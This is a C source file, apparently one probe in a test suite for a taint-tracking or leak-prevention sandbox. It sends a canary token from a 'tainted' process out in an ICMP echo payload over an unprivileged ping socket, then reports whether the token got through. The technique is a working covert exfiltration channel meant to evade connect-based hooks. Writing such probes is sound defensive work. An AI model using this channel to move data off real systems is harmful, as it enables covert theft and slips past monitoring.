/* icmp_ping.c - attack: a tainted process carries its bytes in the payload of an ICMP echo request from an unprivileged ping socket. */
#include <netinet/ip_icmp.h>

#include "attack.h"

#define ROUTE "icmp_ping"

/*
 * usage: icmp_ping CAMERA A.B.C.D
 * A ping socket (SOCK_DGRAM, IPPROTO_ICMP) needs no privilege where
 * net.ipv4.ping_group_range covers the caller's group, as it does on
 * systemd defaults, Ubuntu, Fedora and Debian 13. Echo payloads can be
 * any bytes, to any address. The runner enables ping sockets in a private
 * network namespace, so the host's setting is never touched.
 */
int main(int argc, char **argv)
{
	struct sockaddr_in dst = { .sin_family = AF_INET };
	unsigned char pkt[256];
	struct icmphdr *icmp = (struct icmphdr *)pkt;
	size_t n;
	int fd;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D\n");
		return 2;
	}
	at_taint(ROUTE, argv[1]);
	if (inet_pton(AF_INET, argv[2], &dst.sin_addr) != 1) {
		at_result(ROUTE, "error", "bad address \"%s\"", argv[2]);
		return 1;
	}
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
	if (fd < 0 && errno == EACCES) {
		at_result(ROUTE, "skip", "ping sockets are off here (net.ipv4.ping_group_range)");
		return 0;
	}
	if (fd < 0)
		return at_report_errno(ROUTE, "socket(IPPROTO_ICMP)", errno);
	memset(pkt, 0, sizeof(pkt));
	icmp->type = ICMP_ECHO;	/* the kernel fills in the id and the checksum */
	icmp->un.echo.sequence = htons(1);
	n = sizeof(*icmp) + at_token((char *)pkt + sizeof(*icmp), sizeof(pkt) - sizeof(*icmp), ROUTE);
	/* No connect(): the address rides on the sendto, where only a sendmsg hook could judge it. */
	if (sendto(fd, pkt, n, 0, (struct sockaddr *)&dst, sizeof(dst)) != (ssize_t)n)
		return at_report_errno(ROUTE, "sendto(ping socket)", errno);
	at_result(ROUTE, "through", "ICMP echo request with a %zu-byte payload", n - sizeof(*icmp));
	return 0;
}
